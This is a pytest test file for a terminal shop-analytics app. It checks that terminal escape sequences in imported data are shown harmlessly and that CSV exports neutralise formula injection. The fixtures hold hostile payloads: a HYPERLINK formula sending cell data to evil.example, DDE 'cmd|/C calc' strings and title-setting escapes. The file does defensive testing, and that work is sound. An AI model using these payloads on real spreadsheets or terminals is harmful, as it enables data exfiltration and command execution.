"""The app never writes a control character from data to the terminal: on a store imported through the
real command line from a CSV whose names hold OSC 52, OSC 2, CSI 2J and the 8-bit CSI, every tab, the
header's title, the charts, the detail screens, the alert panel and its toasts show them as `\\x1b`-style
escapes. And `e` exports cells that would run as spreadsheet formulas with a leading quote (OWASP).

"What the terminal gets" is read from Textual's compositor: the segments the app would write for the whole
screen, less Textual's own control segments (cursor moves), so only the characters drawn remain."""

from __future__ import annotations

import asyncio
import csv
import sqlite3

from tests.app.conftest import drawn, settle, wait_for
from tests.conftest import shopintel
from tests.hostile.escapes import (CATEGORY, COUNTRY, CUSTOMER, CUSTOMER_ID, EMAIL, HEADER, PRODUCT, SHOWN, SKU,
                                   TITLE, assert_shown_safely, build_store)
from shopintel.tui.app import ShopApp
from shopintel.tui.screens.detail import CategoryScreen, CustomerScreen, ProductScreen
from shopintel.tui.widgets.alerts import AlertPanel


def shown(app, *values: str) -> str:
    screen = drawn(app)
    assert_shown_safely(screen, *values)
    return screen


async def open_row(pilot, app, screen_type) -> None:
    await pilot.press("enter")
    await wait_for(pilot, lambda: isinstance(app.screen, screen_type))
    await settle(pilot, app)


async def test_every_tab_title_chart_and_detail_screen_shows_escapes_visibly(tmp_path):
    db = build_store(tmp_path, shopintel, name=f"shop{TITLE}.db")
    app = ShopApp(db, read_only=True, live_alerts=False)
    async with app.run_test(size=(200, 50)) as pilot:
        await settle(pilot, app)
        assert "shop\\x1b]2;pwned\\x07.db" in shown(app)          # the header's title
        await pilot.press("3")
        await settle(pilot, app)
        shown(app, CUSTOMER, CUSTOMER_ID)
        await open_row(pilot, app, CustomerScreen)                 # the top whale is the hostile customer
        shown(app, CUSTOMER, CUSTOMER_ID, EMAIL, COUNTRY)
        await pilot.press("escape", "4")
        await settle(pilot, app)
        screen = shown(app, SKU, PRODUCT, CATEGORY)
        assert screen.count(SHOWN[SKU]) >= 2                        # the table and the chart's label
        await open_row(pilot, app, ProductScreen)
        shown(app, SKU, PRODUCT, CATEGORY)
        await pilot.press("escape", "5")
        await settle(pilot, app)
        screen = shown(app, CATEGORY)
        assert screen.count(SHOWN[CATEGORY]) >= 2                   # the table and the chart's label
        await open_row(pilot, app, CategoryScreen)
        shown(app, CATEGORY, SKU, PRODUCT)
        await pilot.press("escape")
        for key in "12367":
            await pilot.press(key)
            await settle(pilot, app)
            shown(app)
        await pilot.press("6")
        await settle(pilot, app)
        shown(app, SKU, PRODUCT)


async def test_the_alert_panel_and_its_toast_show_escapes_visibly(tmp_path):
    db = build_store(tmp_path, shopintel)
    r = shopintel("stock", "set", SKU, "200", "--db", str(db))    # plenty: nothing due when the app opens
    assert r.returncode == 0, r.stderr
    sale = tmp_path / "checkout.csv"
    with open(sale, "w", newline="") as f:
        w = csv.writer(f)
        w.writerow(HEADER)
        w.writerow(["E99", "2024-02-29 09:00", CUSTOMER_ID, CUSTOMER, EMAIL, COUNTRY, SKU, PRODUCT, CATEGORY, 190, "4.50"])
    app = ShopApp(db, read_only=True)
    async with app.run_test(size=(200, 50), notifications=True) as pilot:   # toasts are drawn
        await wait_for(pilot, lambda: bool(app.query(AlertPanel)) and app.query_one(AlertPanel).started)
        panel = app.query_one(AlertPanel)
        # another process's checkout sells the hostile product down to its reorder point
        r = await asyncio.to_thread(shopintel, "ingest", str(sale), "--db", str(db))
        assert r.returncode == 0, r.stderr
        await wait_for(pilot, lambda: panel.active_count == 1)
        await wait_for(pilot, lambda: any(n.title == "Reorder alert" for n in app._notifications))
        await wait_for(pilot, lambda: "Reorder alert" in drawn(app))
        shown(app, SKU, PRODUCT)                                    # the toast
        if not panel.display:
            await pilot.press("a")
        await wait_for(pilot, lambda: SHOWN[PRODUCT] in drawn(app) and panel.display)
        shown(app, SKU, PRODUCT)                                    # the panel's table


async def test_export_neutralises_cells_a_spreadsheet_would_run_as_formulas(tmp_path, monkeypatch):
    names = {"C1": '=HYPERLINK("http://evil.example/?"&A1,"Click")', "C2": "+cmd|' /C calc'!A0",
             "C3": "-2+3+cmd|' /C calc'!A0", "C4": "@SUM(1+1)*cmd|' /C calc'!A0", "C5": "-12.5",
             "C6": "Plain Name", "C7": "tab", "C8": "cr"}
    orders = tmp_path / "orders.csv"
    with open(orders, "w", newline="") as f:
        w = csv.writer(f)
        w.writerow(HEADER)
        for i, (cid, name) in enumerate(names.items()):
            w.writerow([f"O{i}", f"2024-02-{i + 1:02d}", cid, name, "", "", "=SKU()", "=1+1", "@cat", i + 1, "2.00"])
    db = tmp_path / "shop.db"
    r = shopintel("ingest", str(orders), "--db", str(db))
    assert r.returncode == 0, r.stderr
    # the import trims spaces around names; a store written by another tool may still hold them
    conn = sqlite3.connect(db)
    conn.execute("UPDATE customers SET name = ? WHERE customer_key = 'C7'", ("\t=1+1",))
    conn.execute("UPDATE customers SET name = ? WHERE customer_key = 'C8'", ("\r=1+1",))
    conn.commit()
    conn.close()
    names.update(C7="\t=1+1", C8="\r=1+1")
    monkeypatch.chdir(tmp_path)
    app = ShopApp(db, read_only=True, live_alerts=False)
    async with app.run_test(size=(160, 40)) as pilot:
        await pilot.press("3")
        await settle(pilot, app)
        await pilot.press("e")
        await wait_for(pilot, lambda: list(tmp_path.glob("shopintel-whales-*.csv")))
    (path,) = tmp_path.glob("shopintel-whales-*.csv")
    with open(path, newline="") as f:
        rows = {row["customer_id"]: row for row in csv.DictReader(f)}
    expected = {cid: ("'" + name if cid not in ("C5", "C6") else name) for cid, name in names.items()}
    assert {cid: row["customer_name"] for cid, row in rows.items()} == expected
    assert all(row["spend"][0].isdigit() for row in rows.values())   # numbers are numbers, never quoted
    # the top-sellers export: skus and product names from data get the same treatment
    app = ShopApp(db, read_only=True, live_alerts=False)
    async with app.run_test(size=(160, 40)) as pilot:
        await pilot.press("4", "minus", "minus", "minus")           # threshold 0: every product
        await settle(pilot, app)
        await pilot.press("e")
        await wait_for(pilot, lambda: list(tmp_path.glob("shopintel-top-sellers-*.csv")))
    (path,) = tmp_path.glob("shopintel-top-sellers-*.csv")
    with open(path, newline="") as f:
        (row,) = list(csv.DictReader(f))
    assert (row["sku"], row["product_name"], row["category"]) == ("'=SKU()", "'=1+1", "'@cat")
